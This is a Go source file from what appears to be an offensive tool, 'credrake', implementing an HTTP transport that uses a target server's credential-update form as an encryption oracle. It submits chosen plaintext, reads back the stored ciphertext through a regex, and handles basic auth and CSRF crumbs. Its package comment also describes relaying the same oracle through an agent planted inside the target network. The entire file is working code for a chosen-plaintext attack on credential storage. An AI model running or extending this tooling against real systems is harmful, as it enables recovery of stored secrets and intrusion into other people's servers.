// Package transport provides concrete oracle transports: a direct HTTP
// form transport speaking to the target's credential-update interface,
// and a NATS relay transport for driving the same oracle through an
// agent inside the target network.
package transport

import (
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"time"

	"github.com/google/uuid"
	"github.com/rs/zerolog/log"

	"github.com/credrake/credrake/oracle"
)

// HTTPFormConfig configures the direct HTTP oracle.
type HTTPFormConfig struct {
	// UpdateURL receives the credential update as a form POST.
	UpdateURL string `yaml:"update_url"`

	// FetchURL serves the stored document containing the ciphertext.
	FetchURL string `yaml:"fetch_url"`

	// Field is the form field carrying the chosen plaintext.
	Field string `yaml:"field"`

	// ExtractPattern is a regular expression with one capture group
	// matching the base64 ciphertext inside the fetched document.
	ExtractPattern string `yaml:"extract_pattern"`

	// CrumbURL optionally names a CSRF-crumb endpoint answering
	// "Header-Name:value"; the crumb is fetched once and attached to
	// every update.
	CrumbURL string `yaml:"crumb_url"`

	Username string `yaml:"username"`
	Password string `yaml:"password"`

	// MaxRequestBytes caps a single submission. Form posts beyond this
	// are rejected by the reference target.
	MaxRequestBytes int `yaml:"max_request_bytes"`

	// CorruptingBytes are byte values the form encoding normalizes in
	// flight. Defaults to CR and LF.
	CorruptingBytes []byte `yaml:"corrupting_bytes"`

	TimeoutSeconds int `yaml:"timeout_seconds"`
}

type httpHandle struct{ id string }

// HTTPForm is an oracle.Transport over the target's own web interface.
//
// The target stores a single credential document, so an update must be
// read back before the next one lands. Submit acquires the slot and
// Retrieve releases it; the engine may still run pipelined, but round
// trips against this transport serialize on the slot.
type HTTPForm struct {
	cfg     HTTPFormConfig
	client  *http.Client
	extract *regexp.Regexp

	crumbMu    sync.Mutex
	crumbName  string
	crumbValue string

	slot sync.Mutex
}

// NewHTTPForm validates the config and builds the transport.
func NewHTTPForm(cfg HTTPFormConfig) (*HTTPForm, error) {
	if cfg.UpdateURL == "" || cfg.FetchURL == "" {
		return nil, fmt.Errorf("http oracle needs update_url and fetch_url")
	}
	if cfg.Field == "" {
		cfg.Field = "value"
	}
	if cfg.ExtractPattern == "" {
		return nil, fmt.Errorf("http oracle needs extract_pattern with one capture group")
	}
	re, err := regexp.Compile(cfg.ExtractPattern)
	if err != nil {
		return nil, fmt.Errorf("bad extract_pattern: %w", err)
	}
	if re.NumSubexp() != 1 {
		return nil, fmt.Errorf("extract_pattern needs exactly one capture group, has %d", re.NumSubexp())
	}
	if cfg.MaxRequestBytes <= 0 {
		cfg.MaxRequestBytes = 8000
	}
	if cfg.CorruptingBytes == nil {
		cfg.CorruptingBytes = []byte{'\n', '\r'}
	}
	if cfg.TimeoutSeconds <= 0 {
		cfg.TimeoutSeconds = 30
	}
	jar, err := cookiejar.New(nil)
	if err != nil {
		return nil, err
	}
	return &HTTPForm{
		cfg: cfg,
		client: &http.Client{
			Jar:     jar,
			Timeout: time.Duration(cfg.TimeoutSeconds) * time.Second,
		},
		extract: re,
	}, nil
}

func (t *HTTPForm) CorruptingByteValues() []byte { return t.cfg.CorruptingBytes }

func (t *HTTPForm) MaxRequestBytes() int { return t.cfg.MaxRequestBytes }

// Submit posts the batch as the configured form field and holds the
// document slot until the matching Retrieve.
func (t *HTTPForm) Submit(ctx context.Context, batch []byte) (oracle.Handle, error) {
	t.slot.Lock()
	ok := false
	defer func() {
		if !ok {
			t.slot.Unlock()
		}
	}()

	form := url.Values{t.cfg.Field: {string(batch)}}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, t.cfg.UpdateURL,
		strings.NewReader(form.Encode()))
	if err != nil {
		return nil, err
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if err := t.authorize(ctx, req); err != nil {
		return nil, err
	}

	resp, err := t.client.Do(req)
	if err != nil {
		return nil, fmt.Errorf("update request: %w", err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode >= 400 {
		return nil, fmt.Errorf("update request returned %s", resp.Status)
	}

	h := httpHandle{id: uuid.NewString()}
	log.Debug().Str("handle", h.id).Int("bytes", len(batch)).Msg("batch submitted")
	ok = true
	return h, nil
}

// Retrieve fetches the stored document, extracts the ciphertext written
// by the matching Submit, and releases the slot.
func (t *HTTPForm) Retrieve(ctx context.Context, h oracle.Handle) ([]byte, error) {
	hh, isHTTP := h.(httpHandle)
	if !isHTTP {
		return nil, fmt.Errorf("foreign handle %T", h)
	}
	defer t.slot.Unlock()

	req, err := http.NewRequestWithContext(ctx, http.MethodGet, t.cfg.FetchURL, nil)
	if err != nil {
		return nil, err
	}
	if err := t.authorize(ctx, req); err != nil {
		return nil, err
	}
	resp, err := t.client.Do(req)
	if err != nil {
		return nil, fmt.Errorf("fetch request: %w", err)
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		return nil, fmt.Errorf("reading fetch response: %w", err)
	}
	if resp.StatusCode >= 400 {
		return nil, fmt.Errorf("fetch request returned %s", resp.Status)
	}

	m := t.extract.FindSubmatch(body)
	if m == nil {
		return nil, fmt.Errorf("ciphertext not found in fetched document (handle %s)", hh.id)
	}
	enc := strings.Trim(string(m[1]), "{}")
	ct, err := base64.StdEncoding.DecodeString(enc)
	if err != nil {
		return nil, fmt.Errorf("decoding fetched ciphertext: %w", err)
	}
	return ct, nil
}

func (t *HTTPForm) authorize(ctx context.Context, req *http.Request) error {
	if t.cfg.Username != "" {
		req.SetBasicAuth(t.cfg.Username, t.cfg.Password)
	}
	if t.cfg.CrumbURL == "" {
		return nil
	}
	name, value, err := t.crumb(ctx)
	if err != nil {
		return err
	}
	req.Header.Set(name, value)
	return nil
}

// crumb returns the cached CSRF "Header-Name:value" pair, asking the
// crumb endpoint on first use. A failed fetch is not cached, so the
// next request attempts it again.
func (t *HTTPForm) crumb(ctx context.Context) (string, string, error) {
	t.crumbMu.Lock()
	defer t.crumbMu.Unlock()
	if t.crumbName != "" {
		return t.crumbName, t.crumbValue, nil
	}

	req, err := http.NewRequestWithContext(ctx, http.MethodGet, t.cfg.CrumbURL, nil)
	if err != nil {
		return "", "", err
	}
	if t.cfg.Username != "" {
		req.SetBasicAuth(t.cfg.Username, t.cfg.Password)
	}
	resp, err := t.client.Do(req)
	if err != nil {
		return "", "", fmt.Errorf("crumb request: %w", err)
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		return "", "", fmt.Errorf("reading crumb: %w", err)
	}
	if resp.StatusCode >= 400 {
		return "", "", fmt.Errorf("crumb request returned %s", resp.Status)
	}
	name, value, found := strings.Cut(strings.TrimSpace(string(body)), ":")
	if !found || name == "" {
		return "", "", fmt.Errorf("malformed crumb response %q", string(body))
	}
	t.crumbName, t.crumbValue = name, value
	log.Debug().Str("header", name).Msg("CSRF crumb fetched")
	return name, value, nil
}
